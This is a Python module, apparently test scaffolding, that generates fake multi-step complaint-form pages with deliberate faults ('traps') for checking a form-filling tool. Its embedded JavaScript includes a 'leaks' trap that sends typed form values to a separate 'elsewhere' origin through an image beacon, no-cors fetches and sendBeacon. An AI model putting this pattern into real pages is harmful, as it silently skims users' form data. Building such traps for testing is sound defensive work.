"""The pages of a stand-in: what a form with these fields might look like, drawn from its definition and a draft."""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import StrEnum

from complain.channels.definition import FieldTable, FormDefinition, LoginTable
from complain.model import Action, Draft, PlannedField, PlannedPage

ANSWER = "246810"
"""What the kit answers to an SMS code or a captcha."""
DRAFT_PATH = "/stand-in/draft"
"""Where a page that saves as you type sends what was typed."""
_PICTURE = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
_LONG = 60
_TOKEN = re.compile(
    r"#(?P<id>[\w-]+)|\.(?P<klass>[\w-]+)|\[(?P<name>[\w-]+)(?:[~^$*|]?=[\"']?(?P<value>[^\"'\]]*)[\"']?)?\]"
)


class Trap(StrEnum):
    """What a stand-in does wrong, on purpose."""

    NONE = "none"
    EAGER = "eager"
    TWICE = "twice"
    CUT = "cut"
    TRIMS = "trims"
    SHORT = "short"
    LEAKS = "leaks"
    SILENT = "silent"
    REFUSES = "refuses"
    CHALLENGES = "challenges"


class CannotStandIn(Exception):
    """The definition describes something that a stand-in cannot draw; the message says what."""


@dataclass(frozen=True)
class Addresses:
    """Where a stand-in's forms lead.

    Attributes:
        method: Of the submission.
        submit: Path of the submission.
        elsewhere: Another origin, which must never hear of anything.
    """

    method: str
    submit: str
    elsewhere: str


def form_page(definition: FormDefinition, draft: Draft, trap: Trap, addresses: Addresses) -> str:
    """Return the whole form as one page whose parts are shown one after the other.

    Args:
        definition: Of the channel, already at the stand-in's address.
        draft: Decides which options there are.
        trap: What is wrong.
        addresses: Where it leads.

    Raises:
        CannotStandIn: A field lies in a frame, or its selector is too involved.
    """
    sections = [_section(n, page, draft, trap) for n, page in enumerate(draft.pages)]
    confirm = ""
    if definition.submit.confirm:
        confirm = (
            f"<dialog id=again><p>？</p><button id=sure>{_e(definition.submit.confirm)}</button></dialog>"
        )
    signed = _sign(definition.login.done, "".join(sections)) if definition.login else ""
    last = (
        f"<section class=last><button type=button id=file>{_e(definition.submit.button)}</button></section>"
    )
    body = (
        f"{signed}<form id=form method=post enctype=multipart/form-data action={_q(addresses.submit)}>"
        f"{''.join(sections)}{last}{confirm}</form>"
    )
    return _page(body + _script(trap, addresses))


def login_page(login: LoginTable) -> str:
    """Return a log-in page.

    Args:
        login: Its fields and its button.
    """
    fields = "".join(_control(f"l{n}", _login_field(f), Trap.NONE, "") for n, f in enumerate(login.fields))
    return _page(
        f"<form method=post action=/stand-in/login>{fields}<button>{_e(login.button)}</button></form>"
    )


def answer_page(text: str, css: str = "") -> str:
    """Return the page that answers a submission: a text, in the element that ``css`` selects when it is given."""
    inner = _wrapped(css, lambda marks: f"<p{marks}>{_e(text)}</p>") if css else f"<p>{_e(text)}</p>"
    return _page(f"<main>{inner}</main>")


def _page(body: str) -> str:
    return (
        "<!doctype html><html lang=zh><meta charset=utf-8><title>stand-in</title>"
        f"<script src=/stand-in/page.js></script><body>{body}</body></html>"
    )


def _e(text: str) -> str:
    return html.escape(text)


def _q(text: str) -> str:
    return f'"{html.escape(text, quote=True)}"'


def _login_field(field: FieldTable) -> PlannedField:
    return PlannedField(
        field.label, field.action, ("",), css=field.css, ask=field.ask, send=field.send, picture=field.picture
    )


def _section(number: int, page: PlannedPage, draft: Draft, trap: Trap) -> str:
    if page.frame:
        raise CannotStandIn(f"frame = {page.frame!r}")
    fields = "".join(
        _control(f"f{number}-{place}", field, trap, draft.letter) for place, field in enumerate(page.fields)
    )
    more = f"<button type=button class=next>{_e(page.next)}</button>" if page.next else ""
    is_left = page is draft.pages[-1] or page.next
    marks = f"{'' if number == 0 else ' hidden'}{'' if is_left else ' class=moves-on'}"
    return f"<section{marks}>{_sign(page.wait, fields)}{fields}{more}</section>"


def _sign(sign: str, shown: str) -> str:
    """A sign that the page's fields do not already show."""
    if not sign or _e(sign) in shown:
        return ""
    if sign.startswith("css="):
        return _wrapped(sign.removeprefix("css="), lambda marks: f"<div{marks}>·</div>")
    return f"<h2>{_e(sign)}</h2>"


def _control(name: str, field: PlannedField, trap: Trap, letter: str) -> str:
    if field.frame:
        raise CannotStandIn(f"frame = {field.frame!r}")
    draw = _DRAW[field.action]
    inner = _wrapped(field.css, lambda marks: draw(name, marks, field, trap, letter))
    picture = _wrapped(field.picture, lambda marks: f"<img{marks} src={_PICTURE} width=40 height=20>")
    send = f"<button type=button class=send>{_e(field.send)}</button>" if field.send else ""
    return f"<div class=row>{inner}{picture if field.picture else ''}{send}</div>"


def _labelled(field: PlannedField, control: str) -> str:
    return f"<label>{_e(field.label)} {control}</label>" if field.label else control


def _value(name: str, marks: str, field: PlannedField, trap: Trap, letter: str) -> str:
    (value,) = field.values or ("",)
    if "\n" in value or len(value) > _LONG:
        short = f" maxlength={max(len(value) - 1, 1)}" if trap is Trap.SHORT and letter in value else ""
        return _labelled(field, f"<textarea name={name}{marks}{short}></textarea>")
    return _labelled(field, f"<input name={name}{marks}>")


def _choose(name: str, marks: str, field: PlannedField, trap: Trap, letter: str) -> str:
    if len(field.values) > 1:
        return _boxes(name, marks, field, trap, letter)
    options = "".join(f"<option>{_e(text)}</option>" for text in ("请选择", *field.values, "以上都不是"))
    return _labelled(field, f"<select name={name}{marks}>{options}</select>")


def _check(name: str, marks: str, field: PlannedField, trap: Trap, letter: str) -> str:
    if field.values not in (("true",), ("false",)):
        return _boxes(name, marks, field, trap, letter)
    ticked = " checked" if field.values == ("false",) else ""
    box = f"<input type=checkbox name={name}{marks}{ticked}>"
    return f"<label>{box} {_e(field.label)}</label>" if field.label else box


def _boxes(name: str, marks: str, field: PlannedField, _trap: Trap, _letter: str) -> str:
    boxes = "".join(
        f"<label><input type=checkbox name={name} value={_q(text)}>{_e(text)}</label>"
        for text in (*field.values, "以上都不是")
    )
    return f"<fieldset{marks}><legend>{_e(field.label)}</legend>{boxes}</fieldset>"


def _files(name: str, marks: str, field: PlannedField, _trap: Trap, _letter: str) -> str:
    return _labelled(field, f"<input type=file multiple name={name}{marks}>")


def _date(name: str, marks: str, field: PlannedField, _trap: Trap, _letter: str) -> str:
    if len(field.values) != 1:
        raise CannotStandIn("a range of dates")
    return _labelled(field, f"<input type=date name={name}{marks}>")


def _cascade(name: str, marks: str, field: PlannedField, _trap: Trap, _letter: str) -> str:
    lists = "".join(
        f"<select name={name}><option>请选择</option><option>{_e(level)}</option></select>"
        for level in field.values
    )
    return f"<fieldset{marks}><legend>{_e(field.label)}</legend><p>{lists}</p></fieldset>"


def _ask(name: str, marks: str, field: PlannedField, _trap: Trap, _letter: str) -> str:
    if not field.label and not field.css:
        return ""
    return _labelled(field, f"<input name={name}{marks} autocomplete=off>")


_Draw = Callable[[str, str, PlannedField, Trap, str], str]
_DRAW: dict[Action, _Draw] = {
    Action.VALUE: _value,
    Action.CHOOSE: _choose,
    Action.CHECK: _check,
    Action.FILES: _files,
    Action.DATE: _date,
    Action.CASCADE: _cascade,
    Action.ASK: _ask,
}


def _wrapped(css: str, draw: Callable[[str], str]) -> str:
    """Draw an element that a selector selects, inside the elements that it names around it."""
    if not css:
        return draw("")
    parts = [part for part in re.split(r"[\s>]+", css.split(",")[0].strip()) if part]
    inner = draw(_marks(parts[-1], css))
    for part in reversed(parts[:-1]):
        inner = f"<div{_marks(part, css)}>{inner}</div>"
    return inner


def _marks(compound: str, css: str) -> str:
    rest = re.sub(r"^[\w*-]+", "", compound)
    if _TOKEN.sub("", rest):
        raise CannotStandIn(f"css = {css!r}")
    return "".join(_attributes(rest))


def _attributes(compound: str) -> Iterator[str]:
    classes: list[str] = []
    for token in _TOKEN.finditer(compound):
        if token["id"]:
            yield f" id={_q(token['id'])}"
        elif token["klass"]:
            classes.append(token["klass"])
        elif token["name"] not in ("name", "type"):  # the stand-in needs names of its own
            yield f" {token['name']}={_q(token['value'] or '')}"
        else:
            raise CannotStandIn(f"[{token['name']}]")
    if classes:
        yield f" class={_q(' '.join(classes))}"


def _script(trap: Trap, addresses: Addresses) -> str:
    settings = f"{{trap: {trap.value!r}, method: {addresses.method!r}, submit: {addresses.submit!r}, elsewhere: {addresses.elsewhere!r}}}"
    return f"<script>standIn({settings})</script>"


PAGE_SCRIPT = """
function standIn(settings) {
  const { trap, method, submit, elsewhere } = settings;
  const form = document.getElementById("form"), file = document.getElementById("file");
  const parts = [...form.querySelectorAll("section:not(.last)")], last = form.querySelector(".last");
  let at = 0, answered = false;
  const show = () => { parts.forEach((part, n) => (part.hidden = n !== at)); last.hidden = at !== parts.length - 1; };
  show();
  form.addEventListener("submit", (event) => { event.preventDefault(); send(); });
  for (const button of form.querySelectorAll(".next")) button.onclick = () => { at += 1; show(); };
  const isDone = (one) => one.closest("[hidden]") || one.type === "checkbox" || one.value;
  form.addEventListener("change", () => setTimeout(() => {
    const part = parts[at];
    if (part.matches(".moves-on") && [...part.querySelectorAll("input, select, textarea")].every(isDone)) { at += 1; show(); }
  }));
  for (const button of form.querySelectorAll(".send"))
    button.onclick = () => fetch("/stand-in/code", { method: "POST" });
  const again = document.getElementById("again");
  file.onclick = () => { if (again) again.showModal(); else send(); };
  if (again) document.getElementById("sure").onclick = (event) => { event.preventDefault(); again.close(); send(); };
  function post() {
    return fetch(submit, { method, body: new FormData(form) })
      .then((answer) => answer.text().then((text) => {
        if (answered) return;
        answered = true;
        if (answer.redirected) history.replaceState(null, "", answer.url);
        document.body.innerHTML = new DOMParser().parseFromString(text, "text/html").body.innerHTML;
      }))
      .catch(() => {});
  }
  function send() {
    if (trap === "twice") { post(); post(); return; }
    if (method !== "POST") { post(); return; }
    HTMLFormElement.prototype.submit.call(form);
  }
  function values() { return [...form.elements].map((one) => one.value).filter(Boolean).join("|"); }
  const tell = () => {
    if (trap === "eager") {
      fetch(submit, { method, body: new FormData(form) }).catch(() => {});
      fetch("/stand-in/draft", { method: "POST", body: values() }).catch(() => {});
    }
    if (trap === "leaks") {
      const query = encodeURIComponent(values().slice(0, 500));
      new Image().src = `${elsewhere}/picture?${query}`;
      fetch(`${elsewhere}/fetch`, { method: "POST", mode: "no-cors", body: values() }).catch(() => {});
      fetch(`${elsewhere}/read?${query}`, { mode: "no-cors" }).catch(() => {});
      navigator.sendBeacon(`${elsewhere}/beacon`, values());
    }
  };
  form.addEventListener("change", tell);
  if (trap === "eager") addEventListener("pagehide", () => navigator.sendBeacon("/stand-in/draft", values()));
  if (trap === "trims") form.addEventListener("input", (event) => {
    const one = event.target;
    if (one.matches("textarea, input:not([type])") && one.value.length > 1) one.value = one.value.slice(0, -1);
  });
}
"""
